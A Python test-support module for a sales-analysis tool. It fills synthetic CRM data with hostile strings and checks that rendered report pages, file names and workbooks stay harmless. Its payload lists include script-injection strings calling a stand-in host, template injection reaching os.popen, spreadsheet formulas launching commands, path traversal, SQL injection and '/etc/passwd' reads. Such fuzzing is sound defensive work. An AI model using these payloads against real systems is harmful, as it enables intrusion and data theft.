"""Names and texts that mean harm, companies that consist of them, and what must hold for their reports."""

# ruff: noqa: E501  (payloads read best in one line)
from __future__ import annotations

import html
import itertools
import re
import subprocess
import threading
import unicodedata
import urllib.parse
from collections.abc import Iterable, Sequence
from html.parser import HTMLParser
from pathlib import Path
from socketserver import BaseRequestHandler, ThreadingTCPServer

import pandas as pd
import tiny

from salesanalysis.core.toml import dumps
from salesanalysis.data.sample_crm import generate, write

#: A host that only these payloads ask for; whatever reaches it has left a page.
HOST = "hostile.example"
#: What the loader takes off around a text.
BLANKS = " \t\r\n\u00a0"
_CALL = f"new Image().src='http://{HOST}/hit'"

_MARKUP = f"""
<script>{_CALL}</script>
<script src=http://{HOST}/x.js></script>
</script><script>{_CALL}</script>
</style><script>{_CALL}</script>
</title><script>{_CALL}</script>
--><script>{_CALL}</script><!--
]]><script>{_CALL}</script>
"><script>{_CALL}</script>
'><script>{_CALL}</script>
</textarea><script>{_CALL}</script>
<img src=x onerror="{_CALL}">
<img src=http://{HOST}/a.png>
" onmouseover="{_CALL}" autofocus onfocus="{_CALL}" x="
' onfocus='{_CALL}' autofocus='
<body onload={_CALL}>
<iframe src="javascript:{_CALL}"></iframe>
<iframe srcdoc="<script>{_CALL}</script>"></iframe>
<object data="http://{HOST}/o"></object>
<embed src="http://{HOST}/e">
<link rel=stylesheet href=http://{HOST}/c.css>
<style>@import url(http://{HOST}/c.css);*{{display:none}}</style>
<base href="http://{HOST}/">
<meta http-equiv=refresh content="0;url=http://{HOST}/m">
<form action=http://{HOST}/f><input type=submit autofocus></form>
<a href="javascript:{_CALL}">go</a>
<svg onload="{_CALL}"></svg>
<svg><script>{_CALL}</script></svg>
<svg><foreignObject><iframe src=http://{HOST}/i></iframe></foreignObject></svg>
<svg><image href="http://{HOST}/s.png"/></svg>
<svg><use href="http://{HOST}/s.svg#a"/></svg>
<svg><animate onbegin="{_CALL}" attributeName=x dur=1s></svg>
</svg><img src=http://{HOST}/b.png>
</text></svg><script>{_CALL}</script>
<math><mtext><style><img src=x onerror={_CALL}>
<video><source onerror="{_CALL}"></video>
<details open ontoggle={_CALL}>
&lt;script&gt;{_CALL}&lt;/script&gt;
&#60;script&#62;{_CALL}&#60;/script&#62;
<!--sa--><script>{_CALL}</script>
<!ENTITY x SYSTEM "file:///etc/passwd">
<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]>&b;
<b>bold</b><i>it</i><u>un</u>
url(http://{HOST}/u.png)
expression({_CALL})
"""
_TYPESET = r"""
#import "@preview/evil:0.1.0": *
#read("/etc/passwd")
#eval("1+1")
#eval("read(\"../../pyproject.toml\")")
#include "report.typ"
#image("/etc/passwd")
#link("http://hostile.example")[x]
#panic("no")
#set page(width: 1pt)
#let x = 1
#(x => x)(1)
#{while true {}}
[content] *strong* _emph_ `raw`
$ sum_(i=0)^n i $
= Heading
- list
/ term: text
@reference <label>
\u{41} \
// comment
/* comment */
~ -- --- ...
\input{/etc/passwd}
\write18{id}
\immediate\write18{touch x}
\begin{document}\end{document}
$\frac{1}{2}$ $$x^2$$
\def\x{\x\x}\x
%comment &tab #1 ~ ^ _
**bold** *it* __un__ ~~strike~~
**odd
\*\*escaped\*\*
\\\\
# Heading one
> quote
```python
![alt](http://hostile.example/md.png)
[click](javascript:alert(1))
[click](http://hostile.example/)
<http://hostile.example/auto>
[x]: http://hostile.example "t"
| a | b |
---
- [ ] task
"""
_BRACES = """
{{ 7*7 }}
{{ config }}
{{ ''.__class__.__mro__[1].__subclasses__() }}
{{ cycler.__init__.__globals__.os.popen('id').read() }}
{% for i in range(9) %}x{% endfor %}
{% include "blocks.css" %}
{% raw %}
{# comment #}
{0}
{}
{x.__class__}
{0.__class__.__init__.__globals__}
{count}
{name!r:>99999999}
{:>999999999}
{{{{
}}}}
${HOME}
${PGPASSWORD}
$(id)
`id`
%s %d %n
%(name)s
%99999999d
%HOME%
!{x} #{7*7}
<%= 7*7 %>
<?php phpinfo() ?>
__import__('os').system('id')
'; import os; os.abort()#
\"\"\"; raise SystemExit(3); \"\"\"
[bold red]rich[/bold red]
[/x]
[link=http://hostile.example]x[/link]
\\x1b[31mred
"""
_CELLS = """
=HYPERLINK("http://hostile.example","click")
=1+1
=cmd|' /C calc'!A0
=IMPORTXML("http://hostile.example","//a")
=WEBSERVICE("http://hostile.example")
=DDE("cmd";"/C calc";"x")
+1+1
+cmd|' /C calc'!A0
-1+1
-2+3+cmd|' /C calc'!A0
@SUM(1+1)*cmd|' /C calc'!A0
@A1
|cmd
'=1+1
''=1+1
"=1+1"
;=1+1
,=1+1
=1+1;"x"
a,"b";c\td
#N/A
#REF!
NULL
nan
None
TRUE
1e5
00123
2026-01-01
"""
_PLACES = """
../../x
..\\\\..\\\\x
/etc/passwd
C:\\\\Windows\\\\win.ini
\\\\\\\\server\\\\share
file:///etc/passwd
~/x
.
..
...
.hidden
-rf
--help
CON
con
PRN.txt
AUX
NUL
COM1
LPT9.pdf
a/b
a\\\\b
a:b
a*b?
a<b>c|d
name.
x.ipynb
manifest.json
index.html
%2e%2e%2f
a;rm -rf x
'; DROP TABLE reps; --
" OR ""="
') OR 1=1 --
reps
__row
"quoted"
'quoted'
a""b''c
"""
_LETTERS = (
    "\u202egnp.exe",
    "a\u202eb\u202cc",
    "\u2066x\u2069",
    "\u200bAni",
    "An\u200bi",
    "Ani\u200d",
    "\ufeffAni",
    "A\u00adni",
    "Ani\u2028x",
    "Ani\u2029x",
    "A\u0085x",
    "Ani\x00x",
    "\x00",
    "Ani\x07\x08x",
    "Ani\x1b[31mx",
    "Ani\rx",
    "Ani\nx",
    "Ani\tx",
    "Ani\x0bx",
    "Ani\x0cx",
    "Ani\x7fx",
    "Ani\x9fx",
    "\tAni",
    "\r=1+1",
    "\t=1+1",
    "\n=1+1",
    "محمد علي",
    "שלום",
    "abc محمد 123",
    "王小明",
    "ประยุทธ์",
    "नमस्ते",
    "한국어",
    "한국어",
    "Й",
    "Й",
    "é",
    "é",
    "ﬁ ﬀ ①",
    "ＡＮＩ",
    "Ａni",
    "Аni",
    "ANI",
    "ani",
    "Ani ",
    "Ani  x",
    "Ani\u00a0x",
    "İ ı ß ſ",
    "🚀",
    "👨\u200d👩\u200d👧\u200d👦",
    "🇮🇩",
    "❤\ufe0f",
    "\U000e0041\U000e0042",
    "\ufffd\uffff",
    "\ufdd0",
    "\ue000",
    "\U0010ffff",
    "\U00020000" * 80,
    "a" + "\u0301" * 300,
    "Z̸̡̢" * 40,
    "\u0e33" * 50,
    "x" * 10_000,
    "x " * 5_000 + "y",
    "<script>" * 1_250,
    "ab" + "\u0301\u0302" * 2_000,
    "=" * 10_000,
    "{{" * 2_000,
    "\\" * 999,
    "'" * 500,
    '"' * 500,
    "*" * 501,
    "#" * 300,
    "\u202e" * 200 + "x",
    "ا" * 200,
    "A\ufe00\ufe01",
    "½ ² ㎏ ﷺ",
    "—–‐",
    "¯\\_(ツ)_/¯",
)


def names() -> list[str]:
    """Return more than 500 different names, the same ones in the same order each time."""
    lines = [
        line
        for block in (_MARKUP, _TYPESET, _BRACES, _CELLS, _PLACES)
        for line in block.strip("\n").split("\n")
    ]
    plain = [*lines, *_LETTERS]
    mixed = [f"Ani {x} B" for x in lines] + [f"{x}\u202e{y}" for x, y in itertools.pairwise(lines)]
    mixed += [f"**{x}** 100 %" for x in lines[::4]] + [f"=A1&{x!r}" for x in lines[::5]]
    return list(dict.fromkeys([*plain, *mixed]))


def mixed(count: int, seed: int = 0) -> list[str]:
    """Return so many names of all kinds; another seed begins elsewhere."""
    found = names()
    step = next(
        s for s in range(len(found) * 5 // 13, len(found)) if len(found) % s and _coprime(s, len(found))
    )
    return [found[(seed + i * step) % len(found)] for i in range(min(count, len(found)))]


def _coprime(a: int, b: int) -> bool:
    while b:
        a, b = b, a % b
    return a == 1


#: Texts of a CRM, those first that stand large in reports; of the second kind the same value is one everywhere.
TEXTS = (
    *(
        "reps.name",
        "accounts.name",
        "opportunities.name",
        "opportunities.product",
        "opportunities.lost_reason",
    ),
    *("opportunities.source", "accounts.segment", "accounts.source", "leads.source", "coaching.coach"),
    *("coaching.action", "coaching.note", "coaching.session_id", "opportunities.next_step", "absences.kind"),
    *("activities.subject", "opportunity_contacts.role", "contacts.name", "contacts.email", "reps.email"),
)
TOGETHER = ("team", "region", "stage", "manager")
_IDS = ("rep_id", "entry_rep_id", "handed_to")


class _Given:
    """Hands out names, each value its own, in turn."""

    def __init__(self, pool: Sequence[str]) -> None:
        # A cell is read without the blanks around it, and an empty one is none.
        self.pool = [n for n in pool if n.strip(BLANKS) and n not in ("NULL", "#N/A", "\\N")]
        self.turn, self.known = itertools.count(), {}

    def __call__(self, kind: str, value: object) -> object:
        if pd.isna(value):
            return value
        if (kind, value) not in self.known:
            self.known[kind, value] = self.pool[next(self.turn) % len(self.pool)]
        return self.known[kind, value]


def company(folder: Path, pool: Sequence[str], *, large: bool = False, ids: bool = False) -> dict[str, str]:
    """Write a company of which every text is one of `pool`; return who its reps are, by identifier.

    A `large` one has all tables and 40 weeks; with `ids` identifiers are names of the pool as well.
    """
    made = generate(reps=8, weeks=40, seed=3) if large else None
    tables = made.tables if made else _small()
    give, people = _Given(pool), tables["reps"]
    new = {i: give("rep_id", i)[:40].strip(BLANKS) if ids else i for i in people["rep_id"]}
    assert len(set(new.values())) == len(new)
    who = {new[i]: give("reps.name", name).strip(BLANKS) for i, name in zip(people["rep_id"], people["name"])}
    for column in TOGETHER:
        for frame in (f for f in tables.values() if column in f):
            for value in frame[column].dropna().unique():
                give(column, value)
    changed = {n: _changed(n, f, give, new) for n, f in tables.items()}
    if made:
        write(folder, type(made)(changed, made.truth, _settings(made.client, give)))
        plan, name = folder / "plan.toml", toml_text(give("plan", "plan"))
        plan.write_text(
            re.sub(r'(?m)^name = ".*"', lambda _: f"name = {name}", plan.read_text("utf-8")), "utf-8"
        )
    else:
        folder.mkdir(parents=True)
        for table, frame in changed.items():
            frame.to_parquet(folder / f"{table}.parquet", index=False)
        told = 'name = "PT Nusa Cakra Solusi"\nas_of = 2026-09-30\nminimum_base = 2\nclaim_base = 5\n'
        (folder / "client.toml").write_text(_settings(f'language = "id"\nstages = []\n{told}', give), "utf-8")
    (folder / "playbook.toml").write_text(_book(give), "utf-8")
    return who


def _small() -> dict[str, pd.DataFrame]:
    """Return the tiny company with more words in it."""
    tables = tiny.tables()
    deals = tables["opportunities"]
    tables["opportunities"] = deals.assign(
        lost_reason=deals["outcome"].map({"lost": "price"}), next_step="call"
    )
    tables["activities"] = tables["activities"].assign(subject="subject")
    return tables


def _changed(name: str, frame: pd.DataFrame, give: _Given, new: dict[str, str]) -> pd.DataFrame:
    found = frame.astype("object")
    for column in frame.columns:
        if f"{name}.{column}" in TEXTS:
            found[column] = [give(f"{name}.{column}", v) for v in frame[column]]
        elif column in TOGETHER:
            found[column] = [give(column, v) for v in frame[column]]
        elif column in _IDS:
            found[column] = [new.get(v, v) for v in frame[column]]
    if name == "goals":
        scopes = {"team": lambda v: give("team", v), "rep": lambda v: new.get(v, v)}
        found["scope_id"] = [scopes.get(s, lambda v: v)(v) for s, v in zip(frame["scope"], frame["scope_id"])]
    return found.where(found.notna(), None).astype(frame.dtypes.to_dict())


def _settings(told: str, give: _Given) -> str:
    stages = [v for (kind, _), v in give.known.items() if kind == "stage"] if "proposal" in told else []
    told = told.replace('"PT Nusa Cakra Solusi"', toml_text(give("client", "client")))
    told = re.sub(r"stages = .*", lambda _: f"stages = [{', '.join(map(toml_text, stages))}]", told)
    return told.replace('language = "id"', 'language = "en"')


def _book(give: _Given) -> str:
    """Return a playbook of hostile texts."""
    words = {k: toml_text(give("book", k)) for k in ("heading", "lever", "watch", "a", "b", "c")}
    entry = "".join(f"{k} = {words[k]}\n" for k in ("heading", "lever", "watch"))
    asked = f"questions = [{words['a']}, {words['b']}, {words['c']}]\n"
    return "".join(f"[{key}.en]\n{entry}{asked}" for key in ("call_volume", "win"))


def toml_text(text: object) -> str:
    """Return a text as TOML writes it."""
    return dumps({"a": str(text)}, {}).removeprefix("a = ").rstrip("\n")


# What must hold ---------------------------------------------------------------------------------


class Page(HTMLParser):
    """The elements of a page with their attributes, its comments, and what a reader sees."""

    def __init__(self, source: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: set[tuple[str, str]] = set()
        self.comments: list[str] = []
        self.targets: list[tuple[str, str, str]] = []
        self._texts: list[str] = []
        self._skip = 0
        self.feed(source)
        self.text = "".join(self._texts)

    def handle_starttag(self, tag, attrs):
        self._skip += tag == "style"
        self.elements |= {(tag, name) for name, _ in attrs} | {(tag, "")}
        self.targets += [
            (tag, n, v or "")
            for n, v in attrs
            if n in ("href", "src", "xlink:href", "action", "data", "srcdoc", "style")
        ]

    def handle_endtag(self, tag):
        self._skip -= tag == "style"

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        self.handle_endtag(tag)

    def handle_comment(self, data):
        self.comments.append(data)

    def handle_data(self, data):
        if not self._skip:
            self._texts.append(data)


#: Elements and attributes of the pages of a harmless company.
ALLOWED = {
    (tag, name)
    for tag, names_ in {
        "a": "href", "article": "class", "aside": "class", "body": "class", "br": "", "circle": "cx cy fill r stroke stroke-width",
        "clippath": "id", "dd": "", "defs": "", "details": "", "div": "aria-hidden class role style tabindex", "dl": "class",
        "dt": "", "figcaption": "class", "figure": "class style", "footer": "", "g": "clip-path", "h1": "", "h2": "", "h3": "",
        "head": "", "hr": "class", "html": "class lang", "i": "", "li": "", "main": "class", "meta": "charset content http-equiv name",
        "line": "stroke stroke-dasharray stroke-width x1 x2 y1 y2", "nav": "aria-label", "ol": "", "p": "class",
        "path": "clip-path d fill id stroke stroke-width style", "rect": "fill height width x y", "section": "class id",
        "span": "class style", "strong": "", "style": "", "summary": "", "table": "class", "tbody": "", "td": "class",
        "svg": "aria-hidden aria-label class focusable role version viewbox xmlns xmlns:xlink", "thead": "", "title": "", "tr": "",
        "text": "fill font-size style text-anchor transform x y", "th": "class scope style", "ul": "", "use": "style x xlink:href y",
    }.items()
    for name in ("", *names_.split())
}  # fmt: skip
#: Elements that no page of ours has, whatever stands in it.
_NEVER = {
    "script",
    "iframe",
    "object",
    "embed",
    "form",
    "input",
    "base",
    "foreignobject",
    "image",
    "animate",
    "video",
    "audio",
    "source",
    "math",
    "frame",
    "img",
    "link",
}
_OURS = re.compile(r"#[^\s]*|data:(image/png|font/woff2);base64,[A-Za-z0-9+/=]+")


def check_page(source: str) -> Page:
    """Hold that a page consists of elements and attributes of a harmless one and points nowhere."""
    page = Page(source)
    found = page.elements - ALLOWED
    assert not found, f"markup that a harmless company has not: {sorted(found)}"
    assert not {tag for tag, _ in page.elements} & _NEVER
    assert not [name for _, name in page.elements if name.startswith("on")]
    for tag, name, value in page.targets:
        if name == "style":
            assert not re.search(r"url\((?!#)|expression|@import|javascript:", value), value
        else:
            assert _OURS.fullmatch(value), f"<{tag} {name}={value[:80]!r}>"
    assert not [c for c in page.comments if HOST in c], "a text of the company stands in a comment"
    assert "Content-Security-Policy" in source
    return page


def squeezed(text: str) -> str:
    """Return a text without blanks and without what is not shown, as PDF readers differ there."""
    return re.sub(r"[\s\u200b\u00ad\ufeff\u2060]+", "", html.unescape(unicodedata.normalize("NFC", text)))


def portable(name: str) -> bool:
    """Tell whether a file can have this name on Windows, macOS and Linux."""
    stem = name.split(".")[0].lower()
    devices = {"con", "prn", "aux", "nul", *(f"{d}{i}" for d in ("com", "lpt") for i in range(10))}
    return (
        re.fullmatch(
            r"[^\x00-\x1f<>:\"/\\|?*\u007f-\u009f\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff]+", name
        )
        is not None
        and stem not in devices
        and name[-1] not in ". "
        and name[0] not in ".-~"
        and len(name.encode("utf-8")) <= 200
    )


# A browser --------------------------------------------------------------------------------------


class Listener:
    """A server to which a browser's every name leads; counts what asks for the hostile host."""

    def __enter__(self) -> Listener:
        heard = self.heard = []

        class Handler(BaseRequestHandler):
            def handle(self):
                self.request.settimeout(5)
                heard.append(self.request.recv(4096))
                self.request.sendall(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n")

        self.server = ThreadingTCPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *_: object) -> None:
        self.server.shutdown()
        self.server.server_close()

    @property
    def hits(self) -> list[bytes]:
        return [h for h in self.heard if HOST.encode() in h]


def browse(browser: str, pages: Iterable[str], folder: Path) -> tuple[list[bytes], str]:
    """Open pages in frames of one page of a headless browser; return what left, and the browser's own words."""
    folder.mkdir(parents=True, exist_ok=True)
    frames = []
    for number, page in enumerate(pages):
        (folder / f"{number}.html").write_text(page, encoding="utf-8", errors="surrogatepass")
        frames.append(f'<iframe src="{number}.html" width=900 height=700></iframe>')
    (folder / "all.html").write_text(f"<!doctype html><title>all</title>{''.join(frames)}", encoding="utf-8")
    with Listener() as listener:
        rules = f"MAP * 127.0.0.1:{listener.server.server_address[1]}"
        done = subprocess.run(
            [browser, "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
             "--disable-background-networking", "--disable-component-update", "--disable-extensions",
             "--disable-sync", "--enable-logging=stderr", f"--user-data-dir={folder / 'profile'}",
             f"--host-resolver-rules={rules}", "--virtual-time-budget=3000", "--timeout=60000", "--dump-dom",
             (folder / "all.html").as_uri()],
            capture_output=True, text=True, timeout=180, check=False,
        )  # fmt: skip
        assert "<iframe" in done.stdout, done.stderr[-2000:]
        return listener.hits, done.stderr


def quoted(name: str) -> str:
    """Return a file name as a link says it."""
    return urllib.parse.quote(name)


def printable(text: object) -> str:
    """Return a text that a workbook can hold."""
    return re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f]", "", str(text))
